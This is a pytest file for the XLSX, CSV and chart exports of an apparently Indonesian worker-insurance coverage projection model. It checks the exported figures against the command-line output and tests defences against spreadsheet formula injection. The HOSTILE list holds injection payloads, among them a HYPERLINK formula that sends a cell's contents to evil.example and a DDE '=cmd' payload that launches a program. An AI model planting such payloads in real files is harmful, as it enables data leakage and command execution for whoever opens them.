"""Report exports: the XLSX and CSV are opened and checked cell by cell against `python -m model project`'s JSON;
text from users never becomes a formula; chart images carry their title, region and scenario."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from model import Levers, Scenario, Settings, load_regions, project
from model.cli import main
from model.exports import (
    chart_png,
    chart_svg,
    levers_in_words,
    neutralise,
    region_report,
    report_csv,
    report_xlsx,
    titled_spec,
)

LEVERS = {"default": {"budget_bn": 5, "regulation_level": 3, "outreach_pct": 40}, "regions": {"15": {"budget_bn": 20}}}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
]


@pytest.fixture(scope="module")
def cli_json(tmp_path_factory, capsys_module=None):
    path = tmp_path_factory.mktemp("cli") / "levers.json"
    path.write_text(json.dumps(LEVERS))
    out = io.StringIO()
    import contextlib

    with contextlib.redirect_stdout(out):
        assert main(["project", "--levers", str(path)]) == 0
    return json.loads(out.getvalue())


@pytest.fixture(scope="module")
def result(baseline):
    return project(baseline, Scenario.from_dict(LEVERS), settings=Settings(draws=0))


def _shown(value, cli_value, decimals):
    """The export shows the model's number rounded to `decimals`; the command line prints it to 4 decimals, so
    the two agree within half a unit of the shown precision (plus the CLI's own rounding)."""
    return round(value, decimals) == value and abs(value - cli_value) <= 0.5 * 10**-decimals + 1e-4


def _sheet_rows(book, title):
    rows = list(book[title].iter_rows(values_only=True))
    return rows[0], rows[1:]


def test_xlsx_numbers_match_the_command_line(result, cli_json):
    book = load_workbook(io.BytesIO(report_xlsx(result, "Paket A", "bawaan", "id", ["perda_perizinan"])))
    assert book.sheetnames == ["Tentang", "Wilayah", "Nasional", "Jalur nasional", "Asumsi & sumber"]
    header, rows = _sheet_rows(book, "Wilayah")
    assert header[:2] == ("Kode wilayah", "Wilayah")
    assert "Cakupan Des 2030 – skenario (%)" in header and "Biaya per tambahan peserta 2030 (Rp/orang)" in header
    by_code = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert len(by_code) == len(cli_json["regions"]) == 38
    for region in cli_json["regions"]:
        row = by_code[region["code"]]
        assert row["Wilayah"] == region["name"]
        assert _shown(row["Cakupan Des 2030 – skenario (%)"], region["coverage_rank_year"], 2)
        assert _shown(row["Cakupan Des 2030 – dasar (%)"], region["coverage_rank_year_baseline"], 2)
        assert row["Peringkat 2030 – skenario"] == region["rank_new"]
        assert row["Potensi pekerja (orang)"] == region["potential_workers"]
        assert _shown(row["Tambahan peserta Des 2030 vs dasar (orang)"], region["additional_covered_rank_year"], 0)
        assert isinstance(row["Tambahan peserta Des 2030 vs dasar (orang)"], int)  # no fractions of workers
        year = region["year_target_reached"]
        shown = row["Tahun target tercapai – skenario (tahun)"]
        if region["target_status"] == "already":
            assert shown == "Sudah tercapai"
        else:
            assert shown == (year if year is not None else "Belum sampai 2045")
    header, rows = _sheet_rows(book, "Nasional")
    national = dict(rows)
    assert _shown(national["Cakupan nasional Des 2030 – skenario (%)"], cli_json["national"]["coverage_rank_year"], 2)
    assert (
        national["Wilayah capai target pada 2030 – skenario (wilayah)"]
        == (cli_json["national"]["regions_at_target_by_rank_year"])
    )
    spent, added = (
        cli_json["national"]["budget_spent_rank_year_rp"],
        cli_json["national"]["additional_covered_rank_year"],
    )
    assert abs(national["Biaya per tambahan peserta 2030 (Rp/orang)"] - spent / added) <= 1
    pairs = _sheet_rows(book, "Tentang")[1]
    assert dict(pairs)["Paket kebijakan"] == "Perda + perizinan"
    words = [v for k, v in pairs if k.startswith("Kebijakan")]
    assert any("Rp5,0 miliar per tahun" in w for w in words) and any("Jambi (15)" in k for k, _ in pairs)
    assert any("tingkat 3 – Perda + perizinan & sanksi" in w for w in words)
    header, rows = _sheet_rows(book, "Asumsi & sumber")
    assert {"Asumsi", "Nilai", "Satuan", "Sumber", "Status data"} <= set(header)
    assert all(r[header.index("Sumber")] for r in rows)


def test_english_headers_and_csv_match_the_command_line(result, cli_json):
    text = report_csv(result, "en").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 38
    first = rows[0]
    assert "Coverage Dec 2030 – scenario (%)" in first and "Potential workers (people)" in first
    cli = {r["code"]: r for r in cli_json["regions"]}
    for row in rows:
        expected = cli[row["Region code"]]
        assert _shown(float(row["Coverage Dec 2030 – scenario (%)"]), expected["coverage_rank_year"], 2)
        assert int(row["Rank 2030 – scenario"]) == expected["rank_new"]
        cost = row["Cost per additional participant 2030 (IDR/person)"]
        if expected["cost_per_additional_worker_rp"] is None:
            assert cost == ""
        else:
            assert _shown(int(cost), expected["cost_per_additional_worker_rp"], 0)


def test_user_text_never_becomes_a_formula(baseline, tmp_path):
    frame = baseline.frame.copy()
    in_file = HOSTILE[:5]  # tab and CR are stripped by the table reader; neutralise() is tested for them below
    for i, name in enumerate(in_file):
        frame.loc[i, "name"] = name
        frame.loc[i, "note"] = name
    path = tmp_path / "hostile.csv"
    frame.to_csv(path, index=False)
    table = load_regions(path, filename=path.name, origin="=cmd|' /C calc'!A0.csv")
    result = project(table, Scenario.build(Levers(budget_bn=5)), settings=Settings(draws=0))
    book = load_workbook(io.BytesIO(report_xlsx(result, '=HYPERLINK("http://x")', table.origin, "en")))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "@", "\t", "\r")), (sheet.title, cell.value)
    names = [r[1] for r in book["Regions"].iter_rows(min_row=2, values_only=True)]
    for hostile in in_file:
        assert "'" + hostile in names  # kept, readable, inert
    about = dict(book["About"].iter_rows(min_row=2, values_only=True))
    assert about["Scenario"] == '\'=HYPERLINK("http://x")' and about["Data"].startswith("'=cmd|")
    text = report_csv(result, "en").decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value)  # only numbers may start with a minus sign


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_neutralise(value):
    assert neutralise(value) == "'" + value and neutralise("Jambi") == "Jambi" and neutralise(-3) == -3


def test_levers_in_plain_words():
    words = levers_in_words(Levers(regulation_level=2, budget_bn=12.5, budget_end=2030, outreach_pct=42.5), "id")
    assert words == [
        "Regulasi daerah: tingkat 2 – Perda (wajib untuk non-ASN & aparatur desa), mulai Januari 2027",
        "Anggaran iuran (APBD/APBDes): Rp12,5 miliar per tahun per wilayah, 2027 sampai 2030",
        "Sosialisasi & aksesibilitas: intensitas 42,5%, mulai Januari 2027",
    ]
    assert levers_in_words(Levers(), "en") == ["No new policy (baseline)"]


def test_region_report_rounds_like_the_app(result):
    table = region_report(result, "id")
    coverage = table["Cakupan Des 2030 – skenario (%)"]
    assert all(round(v, 2) == v for v in coverage)
    assert all(isinstance(v, int) for v in table["Pekerja rentan didanai (orang)"])


def test_chart_images_have_title_region_and_scenario(result):
    from ui import charts, views

    paths, targets, markers, _ = views.coverage_frames(result, ["15"], "id", with_bands=False)
    spec = titled_spec(
        charts.spec("coverage", views.chart_labels("id"), "id"),
        {"paths": paths, "targets": targets, "markers": markers},
        "Cakupan UCJ",
        ["Jambi (15)", "Skenario: Paket <A> & B"],
    )
    svg = chart_svg(spec).decode("utf-8")
    assert svg.startswith("<svg") and "Cakupan UCJ" in svg and "Jambi (15)" in svg
    assert "Paket &lt;A&gt; &amp; B" in svg  # escaped text, not markup
    assert "Target 55,0%" in svg  # Bahasa number format in the chart
    png = chart_png(spec)
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 20_000


@pytest.mark.parametrize(
    ("settings", "lang", "words"),
    [
        (Settings(draws=0), "en", "regions without one: national line Kemendagri 2025 (52.15%)"),
        (Settings(draws=0, national_target="rpjmn"), "id", "garis nasional jalur RPJMN (32,15% pada 2025"),
        (Settings(draws=0, national_target="rpjpn_2045"), "en", "national line RPJPN 2045 (99.5%)"),
        (Settings(draws=0, target_pct=55.5), "en", "55.5% for every region"),
    ],
)
def test_the_export_states_which_target_line_was_used(baseline, settings, lang, words):
    result = project(baseline, settings=settings)
    book = load_workbook(io.BytesIO(report_xlsx(result, "Garis", "shipped", lang)))
    about = dict(book.worksheets[0].iter_rows(min_row=2, values_only=True))
    target = about["Target"]
    assert words in target, target
    # Each region says where its target comes from: Jawa Barat (no published target) from the line or the user.
    regions = report_csv(result, lang).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(regions)))
    where = header.index("Target from" if lang == "en" else "Asal target")
    by_code = {row[0]: row[where] for row in rows}
    if settings.target_pct is None:
        assert by_code["15"] in ("the region's own published target", "target terbitan wilayah sendiri")
        assert by_code["32"].startswith(("national line ", "garis nasional "))
    else:
        assert set(by_code.values()) == {"set by the user for every region"}
